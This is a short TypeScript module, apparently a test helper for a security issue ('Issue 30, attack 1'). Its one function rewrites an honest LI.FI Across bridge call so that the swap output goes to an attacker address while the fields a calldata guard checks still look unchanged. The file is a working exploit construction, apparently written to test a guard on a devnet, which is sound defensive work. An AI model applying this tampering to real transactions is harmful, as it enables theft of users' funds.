import { decodeFunctionData, encodeFunctionData, type Hex } from 'viem';
import { acrossFacetV4Abi, LIFI_DIAMOND_ADDRESS } from '../../src/contracts/lifiDiamond';
import { routerAbi } from '../../src/contracts/router';

const MULTIPLIER_BASE = 10n ** 18n;

/**
 * Issue 30, attack 1, on an honest `swapAndStartBridgeTokensViaAcrossV4` call to the devnet's diamond: the first swap
 * pays its output to `attacker`; a second swap spends the allowance the first left (a little of the input kept in the
 * diamond) to produce a little of the bridged token; `BridgeData.minAmount` is 1 and `outputAmountMultiplier` makes
 * `minAmount × multiplier` the honest output. Every field the calldata guard reads still matches the choice.
 */
export function swapPaysAttacker(data: Hex, attacker: `0x${string}`): Hex {
  const decoded = decodeFunctionData({ abi: acrossFacetV4Abi, data });
  if (decoded.functionName !== 'swapAndStartBridgeTokensViaAcrossV4') throw new Error(decoded.functionName);
  const [bridgeData, swaps, acrossData] = decoded.args;
  const honest = swaps[0];
  if (!honest) throw new Error('no swap to tamper with');
  const kept = honest.fromAmount / 100_000n;
  const swap = (amountIn: bigint, to: `0x${string}`) =>
    encodeFunctionData({
      abi: routerAbi,
      functionName: 'swap',
      args: [honest.sendingAssetId, honest.receivingAssetId, amountIn, 0n, to],
    });
  return encodeFunctionData({
    abi: acrossFacetV4Abi,
    functionName: 'swapAndStartBridgeTokensViaAcrossV4',
    args: [
      { ...bridgeData, minAmount: 1n },
      [
        { ...honest, callData: swap(honest.fromAmount - kept, attacker) },
        {
          ...honest,
          sendingAssetId: honest.receivingAssetId,
          fromAmount: 1n,
          requiresDeposit: false,
          callData: swap(kept, LIFI_DIAMOND_ADDRESS),
        },
      ],
      { ...acrossData, outputAmountMultiplier: acrossData.outputAmount * MULTIPLIER_BASE },
    ],
  });
}
